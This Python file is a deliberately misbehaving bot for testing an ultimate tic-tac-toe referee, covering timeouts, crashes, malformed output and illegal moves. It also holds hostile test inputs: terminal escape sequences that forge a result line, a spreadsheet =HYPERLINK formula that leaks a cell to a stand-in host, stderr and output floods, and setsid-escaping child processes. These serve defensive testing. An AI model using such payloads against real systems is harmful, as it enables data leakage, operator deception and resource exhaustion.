#!/usr/bin/env python3
"""A bot that misbehaves on purpose, for the referee's end-to-end tests.

    hostile.py <behaviour> [options]
    hostile.py --list            # the behaviours as a Markdown table

It speaks protocol.md correctly (handshake, newgame, go -> the first square of
`legal`) until its behaviour kicks in, then does exactly one bad thing. Each
behaviour states the verdict protocol.md expects from the referee; README.md in
this directory shows them all as a table (`hostile.py --list` prints it).

When a behaviour kicks in depends on its phase:
  start    before anything is read from stdin
  hello    in place of the normal answer to `uttt 1`
  newgame  right after a `newgame` line
  go       in place of the normal answer to `go`, from the game's (N+1)-th go on,
           N = --after (default 0: the first go of every game)
  quit     in place of exiting on `quit`

Standard library only. EOF on stdin, and a referee that closes our pipes, end
the process quietly with status 0, so test logs hold no Python tracebacks.
"""

import argparse
import os
import signal
import sys
import textwrap
import time

# --------------------------------------------------------------------------------------
# Output. Every line goes through Bot.send, which flushes at once: an unflushed move is
# a move that never arrives. `line_end` and `pad` let the crlf and trailing-space
# behaviours change how every line looks.
# --------------------------------------------------------------------------------------


def write_raw(data):
    """Writes bytes to stdout and flushes."""
    sys.stdout.buffer.write(data)
    sys.stdout.buffer.flush()


def warn(text):
    """A diagnostic on stderr, where the referee expects them."""
    try:
        sys.stderr.write(f"hostile: {text}\n")
        sys.stderr.flush()
    except (OSError, ValueError):
        pass  # stderr closed: nobody is listening


def sleep_forever():
    """Waits to be killed (the referee's job)."""
    while True:
        time.sleep(3600)


# --------------------------------------------------------------------------------------
# A tiny rules tracker: just enough of the rules to find an occupied square, a square
# in the wrong board or one in a closed board. The referee sends `legal`, so a correct
# bot never needs this; a bot that wants to be wrong in a precise way does.
# Squares are (column, row), both 0-8; "e5" is (4, 4).
# --------------------------------------------------------------------------------------

LINES = ((0, 1, 2), (3, 4, 5), (6, 7, 8), (0, 3, 6), (1, 4, 7), (2, 5, 8), (0, 4, 8), (2, 4, 6))


def parse_square(text):
    """'e5' -> (4, 4); None if `text` is not a square a1..i9."""
    if len(text) == 2 and "a" <= text[0] <= "i" and "1" <= text[1] <= "9":
        return ord(text[0]) - ord("a"), int(text[1]) - 1
    return None


def square_name(sq):
    """(4, 4) -> 'e5'."""
    return "abcdefghi"[sq[0]] + str(sq[1] + 1)


def board_of(sq):
    """The small board (0-8, reading order) a square lies in."""
    return (sq[1] // 3) * 3 + sq[0] // 3


def cell_of(sq):
    """The cell (0-8, reading order) a square is inside its small board."""
    return (sq[1] % 3) * 3 + sq[0] % 3


def board_squares(board):
    """The nine squares of a small board, in reading order."""
    left, top = (board % 3) * 3, (board // 3) * 3
    return [(left + c, top + r) for r in range(3) for c in range(3)]


class Tracker:
    """The position after a list of moves, under standard rules or `open-won-boards`
    (the only variant that changes which squares are legal)."""

    def __init__(self, moves, open_won_boards=False):
        self.open_won_boards = open_won_boards
        self.marks = {}  # square -> "X" or "O"
        self.owner = [None] * 9  # per board: None (open), "X", "O" or "draw"
        self.required = None  # board the side to move must play in; None = free move
        for i, sq in enumerate(moves):
            self.play(sq, "XO"[i % 2])

    def is_full(self, board):
        return all(sq in self.marks for sq in board_squares(board))

    def is_closed(self, board):
        """A board takes no more marks: full, or won (unless open-won-boards)."""
        owner = self.owner[board]
        return self.is_full(board) or (owner in ("X", "O") and not self.open_won_boards)

    def play(self, sq, mark):
        self.marks[sq] = mark
        board = board_of(sq)
        if self.owner[board] is None:  # the first winner keeps a board
            cells = board_squares(board)
            if any(all(self.marks.get(cells[i]) == mark for i in line) for line in LINES):
                self.owner[board] = mark
            elif self.is_full(board):
                self.owner[board] = "draw"
        sent_to = cell_of(sq)
        self.required = None if self.is_closed(sent_to) else sent_to

    def legal(self):
        """Legal squares in the referee's order (reading order over the whole grid)."""
        boards = [self.required] if self.required is not None else range(9)
        squares = [sq for b in boards if not self.is_closed(b)
                   for sq in board_squares(b) if sq not in self.marks]
        return sorted(squares, key=lambda sq: (sq[1], sq[0]))


# --------------------------------------------------------------------------------------
# The bot: a correct protocol loop with hooks where a behaviour takes over.
# --------------------------------------------------------------------------------------


class Go:
    """A parsed `go` line."""

    def __init__(self, fields):
        def squares(key):
            value = fields.get(key, "none")
            return [] if value == "none" else value.split(",")

        self.time_ms = int(fields.get("time", "0")) if fields.get("time", "").isdigit() else 0
        self.last = fields.get("last", "none")
        self.moves = squares("moves")
        self.legal = squares("legal")

    def tracker(self, rules):
        moves = [parse_square(m) for m in self.moves]
        if None in moves:
            warn(f"cannot track moves {','.join(self.moves)}")
            return None
        return Tracker(moves, open_won_boards="open-won-boards" in rules.split("+"))


class Bot:
    def __init__(self, behaviour, args):
        self.behaviour = behaviour
        self.args = args
        self.name = args.name or f"hostile-{behaviour.name}"
        self.line_end = b"\n"
        self.pad = ""  # added after every line (trailing-space)
        self.moves_this_game = 0  # go requests answered in the current game
        self.margin_ms = None
        self.rules = "standard"

    # ---- output ---------------------------------------------------------------------

    def send(self, line):
        write_raw((line + self.pad).encode() + self.line_end)

    def handshake(self):
        self.send(f"id name {self.name}")
        self.send("id author uttt-arena tests")
        self.send("ready")

    def play_legal(self, go):
        """The well-behaved answer: the first legal square."""
        if go.legal:
            self.send(go.legal[0])
        else:
            warn("go without legal moves; resigning")
            self.send("resign")

    def sleep_ms(self, go, default_ms):
        """Sleeps --delay-ms, or the go's time plus --over-ms, or `default_ms`."""
        if self.args.delay_ms is not None:
            ms = self.args.delay_ms
        elif self.args.over_ms is not None:
            ms = go.time_ms + self.args.over_ms
        else:
            ms = default_ms
        time.sleep(ms / 1000)

    # ---- the session loop -----------------------------------------------------------

    def run(self):
        phase = self.behaviour.phase
        if phase == "start":
            self.behaviour.act(self)  # returns when the bot goes on playing normally
        while True:
            raw = sys.stdin.buffer.readline()
            if not raw:
                return  # end of input: the referee is gone
            words = raw.decode("utf-8", "replace").split()
            if not words:
                continue
            command, fields = words[0], dict(zip(words[1::2], words[2::2]))
            if command == "uttt":
                if phase == "hello":
                    self.behaviour.act(self)
                else:
                    self.handshake()
            elif command == "newgame":
                self.moves_this_game = 0
                self.margin_ms = int(fields["margin"]) if fields.get("margin", "").isdigit() else None
                self.rules = fields.get("rules", "standard")
                if phase == "newgame":
                    self.behaviour.act(self)
            elif command == "go":
                go = Go(fields)
                acting = self.moves_this_game >= self.args.after
                if self.args.times is not None:
                    acting = acting and self.moves_this_game < self.args.after + self.args.times
                if phase == "go" and acting:
                    self.behaviour.act(self, go)
                else:
                    self.play_legal(go)
                self.moves_this_game += 1
            elif command == "gameover":
                pass
            elif command == "quit":
                if phase == "quit":
                    self.behaviour.act(self)
                return
            else:
                warn(f"ignoring unknown command {command!r}")


# --------------------------------------------------------------------------------------
# The behaviours. Each is a function registered with its name, phase and the verdict
# protocol.md expects; its docstring is the "what it does" column of README.md.
# --------------------------------------------------------------------------------------


class Behaviour:
    def __init__(self, name, phase, verdict, act):
        self.name, self.phase, self.verdict, self.act = name, phase, verdict, act
        self.doc = " ".join((act.__doc__ or "").split())


BEHAVIOURS = {}


def behaviour(name, phase, verdict):
    def register(act):
        BEHAVIOURS[name] = Behaviour(name, phase, verdict, act)
        return act
    return register


@behaviour("good", "none", "game completes")
def good(bot):
    """Plays the first legal square on every go; never misbehaves."""


# ---- time ----------------------------------------------------------------------------

@behaviour("sleep-past-limit", "go", "timeout")
def sleep_past_limit(bot, go):
    """Sleeps 30 s (or `--delay-ms`, or the go's `time` plus `--over-ms`), then answers
    legally. With `--over-ms` just above the margin it answers legally but too late."""
    bot.sleep_ms(go, default_ms=30_000)
    bot.play_legal(go)


@behaviour("answer-in-margin", "go", "accepted: game completes")
def answer_in_margin(bot, go):
    """Sleeps the go's `time` plus half the `margin` of `newgame` (or `--over-ms`, or
    `--delay-ms` in all), then answers legally: late, but inside the margin."""
    half_margin = (bot.margin_ms if bot.margin_ms is not None else 50) // 2
    bot.sleep_ms(go, default_ms=go.time_ms + half_margin)
    bot.play_legal(go)


@behaviour("spin", "go", "timeout")
def spin(bot, go):
    """Busy-loops the CPU (forever, or for `--delay-ms`, then answers legally)."""
    deadline = None if bot.args.delay_ms is None else time.monotonic() + bot.args.delay_ms / 1000
    while deadline is None or time.monotonic() < deadline:
        pass
    bot.play_legal(go)


@behaviour("sigstop", "go", "timeout")
def sigstop(bot, go):
    """Sends itself SIGSTOP; answers legally if it is ever continued."""
    os.kill(os.getpid(), signal.SIGSTOP)
    bot.play_legal(go)


@behaviour("no-newline", "go", "timeout")
def no_newline(bot, go):
    """Writes the first legal square without a newline, flushes, and waits."""
    write_raw(go.legal[0].encode())
    sleep_forever()


@behaviour("slow-handshake", "hello", "handshake-failure if over the handshake limit, else game completes")
def slow_handshake(bot):
    """Sleeps 2000 ms (or `--delay-ms`) after `uttt 1`, then completes the handshake."""
    ms = bot.args.delay_ms if bot.args.delay_ms is not None else 2000
    time.sleep(ms / 1000)
    bot.handshake()


# ---- processes -----------------------------------------------------------------------

@behaviour("exit-before-handshake", "start", "handshake-failure")
def exit_before_handshake(bot):
    """Exits with status 1 at once, before reading anything."""
    sys.exit(1)


@behaviour("crash-signal", "go", "crash (signal recorded: SIGSEGV, or as --signal)")
def crash_signal(bot, go):
    """Kills itself with SIGSEGV (`--signal KILL`, `ABRT`, ... for another) instead of
    answering. Core dumps are switched off first."""
    try:
        import resource
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    except (ImportError, ValueError, OSError):
        pass
    signum = getattr(signal, "SIG" + bot.args.signal.upper().removeprefix("SIG"))
    if signum not in (signal.SIGKILL, signal.SIGSTOP):
        signal.signal(signum, signal.SIG_DFL)  # e.g. in case faulthandler is on
    sys.stderr.flush()
    os.kill(os.getpid(), signum)
    sleep_forever()  # the signal is delivered before this returns


@behaviour("exit0-mid", "go", "crash (exit code 0)")
def exit0_mid(bot, go):
    """Exits with status 0 instead of answering."""
    sys.exit(0)


@behaviour("last-words-exit", "go", "crash (exit code 3; the stderr tail ends with its last words)")
def last_words_exit(bot, go):
    """Writes 256 KiB (or `--bytes`) of stderr lines and then 'last words: goodbye',
    and exits 3 at once instead of answering. The referee sees the exit before it has
    read the end of stderr; the crash message must still quote the last words."""
    remaining = bot.args.bytes if bot.args.bytes is not None else 256 * 1024
    line = b"last-words-exit: chatter before the end\n"
    write_all(2, line * max(1, remaining // len(line)))  # whole lines
    write_all(2, b"last words: goodbye\n")
    os._exit(3)


def write_all(fd, data):
    while data:
        data = data[os.write(fd, data):]


@behaviour("no-newline-exit", "go", "crash (the partial line is logged)")
def no_newline_exit(bot, go):
    """Writes the first legal square without a newline, then exits 0."""
    write_raw(go.legal[0].encode())
    sys.exit(0)


@behaviour("close-stdout", "go", "disconnect")
def close_stdout(bot, go):
    """Closes its standard output (fd 1) instead of answering and keeps running."""
    os.close(1)
    sleep_forever()


@behaviour("close-stdin", "go", "disconnect (when the referee next writes)")
def close_stdin(bot, go):
    """Closes its standard input (fd 0), answers legally, and keeps running."""
    os.close(0)
    bot.play_legal(go)
    sleep_forever()


@behaviour("never-read", "start", "handshake-failure")
def never_read(bot):
    """Never reads stdin and never writes anything; sleeps forever."""
    sleep_forever()


@behaviour("never-read-ready", "start", "timeout (on the first go)")
def never_read_ready(bot):
    """Writes the handshake (`id`, `ready`) without reading anything, then sleeps
    forever without ever reading."""
    bot.handshake()
    sleep_forever()


@behaviour("ignore-quit", "quit", "none: killed after 1000 ms, results unaffected")
def ignore_quit(bot):
    """On `quit`, ignores SIGTERM and sleeps forever instead of exiting."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    sleep_forever()


def spawn_lingering_child(bot, escape):
    """Forks a child that ignores SIGTERM and SIGHUP and sleeps `--linger-s` seconds.
    With `escape`, the child first leaves the process group (setsid) and forks again,
    so the sleeper is an orphan in its own session. The sleeper writes its pid to
    `--pidfile` (atomically) before the parent goes on, so a test can check that the
    pid is gone after the game. The sleeper keeps our stdin/stdout/stderr open unless
    `--detach-stdio`."""
    sys.stdout.flush()
    sys.stderr.flush()
    ready_r, ready_w = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child
        try:
            os.close(ready_r)
            if escape:
                os.setsid()
                if os.fork() > 0:
                    os._exit(0)  # the middle process leaves; the grandchild is orphaned
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            if bot.args.detach_stdio:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
            if bot.args.pidfile:
                tmp = f"{bot.args.pidfile}.tmp{os.getpid()}"
                with open(tmp, "w") as f:
                    f.write(f"{os.getpid()}\n")
                os.replace(tmp, bot.args.pidfile)
            else:
                warn(f"lingering child pid {os.getpid()}")
            os.write(ready_w, b"1")
            os.close(ready_w)
            time.sleep(bot.args.linger_s)
        finally:
            os._exit(0)  # never run the parent's code or flush its buffers
    os.close(ready_w)
    os.read(ready_r, 1)  # wait until the sleeper is set up (pidfile written)
    os.close(ready_r)
    if escape:
        os.waitpid(pid, 0)  # reap the middle process


@behaviour("fork-ignore-term", "start", "game completes; the child must be gone afterwards")
def fork_ignore_term(bot):
    """Before the handshake, forks a child (in the bot's process group) that ignores
    SIGTERM and sleeps `--linger-s` (1000) seconds, pid written to `--pidfile PATH`; then plays
    legally."""
    spawn_lingering_child(bot, escape=False)


@behaviour("fork-setsid", "start", "game completes; the grandchild must be gone afterwards")
def fork_setsid(bot):
    """Like fork-ignore-term, but the child escapes: `setsid()` then a second fork, so
    the sleeper is in a new session and process group, parented to init."""
    spawn_lingering_child(bot, escape=True)


# ---- output ----------------------------------------------------------------------------

@behaviour("garbage", "go", "malformed-output")
def garbage(bot, go):
    """Answers `hello`."""
    bot.send("hello")


@behaviour("lies", "go", "malformed-output")
def lies(bot, go):
    """Answers `I win`."""
    bot.send("I win")


@behaviour("out-of-range", "go", "malformed-output")
def out_of_range(bot, go):
    """Answers `j4` (no column j)."""
    bot.send("j4")


@behaviour("say", "go", "depends on --text")
def say(bot, go):
    """Answers `--text` verbatim, after decoding backslash escapes (`\\x00`, `\\t`,
    `\\x1b`): for `e4 f5`, `E5`, `e10`, NUL and other control characters."""
    import codecs
    write_raw(codecs.escape_decode((bot.args.text or "hello").encode())[0] + bot.line_end)


@behaviour("invalid-utf8", "go", "malformed-output")
def invalid_utf8(bot, go):
    """Answers the bytes `\\xff\\xfe\\n`."""
    write_raw(b"\xff\xfe\n")


@behaviour("huge-line", "go", "malformed-output (line too long)")
def huge_line(bot, go):
    """Writes 100 MB (or `--bytes`) of `x` with no newline, in 64 KiB chunks, then
    sleeps forever."""
    remaining = bot.args.bytes if bot.args.bytes is not None else 100 * 1000 * 1000
    chunk = b"x" * 65536
    while remaining > 0:
        write_raw(chunk[:remaining])
        remaining -= len(chunk)
    sleep_forever()


@behaviour("flood-info", "go", "malformed-output (too many info lines)")
def flood_info(bot, go):
    """Sends 10 000 (or `--count`) `info` lines, then its move. `--count 256` is the
    most protocol.md allows: the move is then accepted."""
    count = bot.args.count if bot.args.count is not None else 10_000
    batch = []
    for i in range(1, count + 1):
        batch.append(f"info depth {i} string flood")
        if len(batch) == 1000 or i == count:
            write_raw("".join(line + bot.pad + bot.line_end.decode() for line in batch).encode())
            batch = []
    bot.play_legal(go)


@behaviour("stderr-flood", "start", "game completes (stderr drained, last 64 KiB kept)")
def stderr_flood(bot):
    """Before reading anything, writes 1 GiB (or `--bytes`) of text lines to stderr in
    1 MiB chunks, then plays legally. A referee that does not drain stderr leaves it
    blocked: handshake-failure."""
    remaining = bot.args.bytes if bot.args.bytes is not None else 1 << 30
    line = b"stderr-flood: debugging output nobody reads\n"
    chunk = line * (1048576 // len(line))
    try:
        while remaining > 0:
            remaining -= os.write(2, chunk[:remaining])
    except OSError:
        pass  # stderr closed: stop flooding, go on playing


@behaviour("trailing-space", "start", "accepted: game completes")
def trailing_space(bot):
    """Ends every line it writes (id, ready, moves) with spaces and a tab before the
    newline."""
    bot.pad = "  \t "


@behaviour("crlf", "start", "accepted: game completes")
def crlf(bot):
    """Ends every line it writes (id, ready, moves) with `\\r\\n`."""
    bot.line_end = b"\r\n"


@behaviour("resign", "go", "resign")
def resign(bot, go):
    """Answers `resign`."""
    bot.send("resign")


@behaviour("early-answer", "newgame", "malformed-output (output before the request)")
def early_answer(bot):
    """Writes `e5` right after `newgame`, before any go; then answers every go legally."""
    bot.send("e5")


@behaviour("early-answer-ready", "hello", "malformed-output (output before the request)")
def early_answer_ready(bot):
    """Writes `e5` right after `ready`, in the same write, before any newgame or go;
    then plays legally."""
    bot.send(f"id name {bot.name}")
    bot.send("id author uttt-arena tests")
    bot.send("ready" + bot.pad + bot.line_end.decode() + "e5")


@behaviour("two-moves", "go", "malformed-output (output before the request)")
def two_moves(bot, go):
    """Answers two legal squares on two lines, in one write: the second is there before
    any request (one write, so the referee always has both lines in hand)."""
    bot.send(go.legal[0] + bot.pad + bot.line_end.decode() + go.legal[-1])


@behaviour("bad-handshake", "hello", "handshake-failure")
def bad_handshake(bot):
    """Answers `uttt 1` with `hello` before its `id` lines and `ready`."""
    bot.send("hello")
    bot.handshake()


# ---- text that must not reach the operator raw --------------------------------------------

# A window title, a cleared screen, red text, a carriage return and a forged result line:
# raw on a terminal, these retitle the window, wipe it and overwrite what it showed.
TERMINAL_ESCAPES = (b"\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\rO (forged) wins\x07\n"
                    b"\x1b[1A\x1b[2Kerased\n")


@behaviour("uid-exit", "go", "crash (exit code 3); its stderr says the uid it ran as")
def uid_exit(bot, go):
    """Writes `uid=N` (the user it runs as) to stderr, then exits 3 instead of answering:
    shows which sandbox a bot was started under."""
    write_all(2, f"uid={os.getuid()}\n".encode())
    os._exit(3)


@behaviour("stderr-escapes-exit", "hello",
           "handshake-failure; the quoted stderr is escaped (`\\x1b`, `\\x07`, `\\r`), never raw")
def stderr_escapes_exit(bot):
    """Writes terminal escape sequences to stderr (window title, clear screen, colour,
    a carriage return and a forged result line), then exits 4 instead of answering
    `uttt 1`."""
    write_all(2, TERMINAL_ESCAPES)
    os._exit(4)


@behaviour("stderr-escapes-crash", "go",
           "crash (exit code 4); the quoted stderr is escaped (`\\x1b`, `\\x07`, `\\r`), never raw")
def stderr_escapes_crash(bot, go):
    """Writes the same escape sequences to stderr, then exits 4 instead of answering."""
    write_all(2, TERMINAL_ESCAPES)
    os._exit(4)


@behaviour("info-after-move", "go",
           "they count toward its next move: malformed-output above 256, accepted up to 256")
def info_after_move(bot, go):
    """Answers legally, then sends `--count` (default 300) `info` lines after its move,
    in the same write: they arrive between its moves, before the next go."""
    count = bot.args.count if bot.args.count is not None else 300
    lines = [go.legal[0]] + [f"info depth {i} string between moves" for i in range(1, count + 1)]
    write_raw("".join(line + bot.pad + bot.line_end.decode() for line in lines).encode())


@behaviour("formula-info", "go",
           "accepted: game completes; moves.csv's info cell starts with ' (not =), the score stays -35")
def formula_info(bot, go):
    """Sends `info score -35 string =HYPERLINK(...)` (or `info <--text>`), a spreadsheet
    formula in the text, then answers legally."""
    text = bot.args.text or 'score -35 string =HYPERLINK("https://example.invalid/?leak="&A1,"click")'
    bot.send(f"info {text}")
    bot.play_legal(go)


@behaviour("long-info-crlf", "go",
           "accepted at 4096 bytes (`\\r\\n` ends the line, it is not part of it); malformed-output above")
def long_info_crlf(bot, go):
    """Sends one `info` line of exactly `--bytes` bytes (default 4096, the limit) ended by
    `\\r\\n`, then answers legally."""
    size = bot.args.bytes if bot.args.bytes is not None else 4096
    head = "info string "
    write_raw((head + "x" * max(0, size - len(head))).encode()[:size] + b"\r\n")
    bot.play_legal(go)


# ---- illegal moves (these need the tracker) ----------------------------------------------

@behaviour("occupied", "go", "illegal-move (occupied)")
def occupied(bot, go):
    """Answers an occupied square in a board it may play in (so the only fault is the
    occupied square). Plays legally until such a square exists."""
    pos = go.tracker(bot.rules)
    if pos is not None:
        allowed = [pos.required] if pos.required is not None else \
            [b for b in range(9) if not pos.is_closed(b)]
        taken = [sq for b in allowed for sq in board_squares(b) if sq in pos.marks]
        if taken:
            return bot.send(square_name(taken[0]))
    bot.play_legal(go)


@behaviour("wrong-board", "go", "illegal-move (wrong board)")
def wrong_board(bot, go):
    """When sent to a board, answers an empty square of another open board. Plays
    legally on free moves until it is sent somewhere."""
    pos = go.tracker(bot.rules)
    if pos is not None and pos.required is not None:
        others = [sq for b in range(9) if b != pos.required and not pos.is_closed(b)
                  for sq in board_squares(b) if sq not in pos.marks]
        if others:
            return bot.send(square_name(others[0]))
    bot.play_legal(go)


@behaviour("closed-board", "go", "illegal-move (board closed)")
def closed_board(bot, go):
    """On a free move, answers a square in a closed board (an empty one if a won board
    has one). Plays legally until it gets a free move while a board is closed."""
    pos = go.tracker(bot.rules)
    if pos is not None and pos.required is None:
        closed = [b for b in range(9) if pos.is_closed(b)]
        squares = [sq for b in closed for sq in board_squares(b)]
        empty = [sq for sq in squares if sq not in pos.marks]
        if squares:
            return bot.send(square_name((empty or squares)[0]))
    bot.play_legal(go)


# --------------------------------------------------------------------------------------
# Command line.
# --------------------------------------------------------------------------------------


def markdown_table():
    rows = ["| behaviour | phase | what it does | verdict expected (protocol.md) |",
            "|---|---|---|---|"]
    for b in BEHAVIOURS.values():
        rows.append(f"| `{b.name}` | {b.phase} | {b.doc} | {b.verdict} |")
    return "\n".join(rows)


def parse_args(argv):
    p = argparse.ArgumentParser(
        description="A uttt bot that misbehaves on purpose (see tests/bots/README.md).",
        epilog=textwrap.fill("behaviours: " + ", ".join(BEHAVIOURS), break_on_hyphens=False),
        formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("behaviour", nargs="?", help="what to do wrong; --list shows them all")
    p.add_argument("--list", action="store_true", help="print the behaviours as a Markdown table")
    p.add_argument("--name", help="the name sent in `id name` (default hostile-<behaviour>)")
    p.add_argument("--tag", help="ignored: marks the process so tests can find leftovers")
    p.add_argument("--after", type=int, default=0, metavar="N",
                   help="go behaviours: play N legal moves in each game first (default 0)")
    p.add_argument("--times", type=int, metavar="K",
                   help="go behaviours: misbehave on K gos only, then play legally (default: every go)")
    p.add_argument("--delay-ms", type=int, metavar="MS", help="sleep/spin length")
    p.add_argument("--over-ms", type=int, metavar="MS",
                   help="sleep the go's `time` plus MS (sleep-past-limit, answer-in-margin)")
    p.add_argument("--bytes", type=int, metavar="N",
                   help="size for huge-line, stderr-flood, last-words-exit, long-info-crlf")
    p.add_argument("--count", type=int, metavar="N", help="info lines for flood-info, info-after-move")
    p.add_argument("--signal", default="SEGV", metavar="NAME", help="crash-signal's signal")
    p.add_argument("--text", help="the answer for `say` (default hello); the info for formula-info")
    p.add_argument("--pidfile", metavar="PATH", help="fork-*: where the sleeper writes its pid")
    p.add_argument("--linger-s", type=float, default=1000, metavar="S",
                   help="fork-*: how long the sleeper sleeps (default 1000)")
    p.add_argument("--detach-stdio", action="store_true",
                   help="fork-*: the sleeper points its stdin/stdout/stderr at /dev/null")
    args = p.parse_args(argv)
    if not args.list and args.behaviour not in BEHAVIOURS:
        p.error(f"unknown behaviour {args.behaviour!r}; try --list")
    return args


def main():
    args = parse_args(sys.argv[1:])
    if args.list:
        print(markdown_table())
        return
    Bot(BEHAVIOURS[args.behaviour], args).run()


if __name__ == "__main__":
    try:
        main()
    except (BrokenPipeError, KeyboardInterrupt):
        # The referee closed our stdout, or we were interrupted: leave quietly. Point
        # stdout at /dev/null so the interpreter's final flush cannot complain either.
        try:
            os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
        except OSError:
            pass
    sys.exit(0)
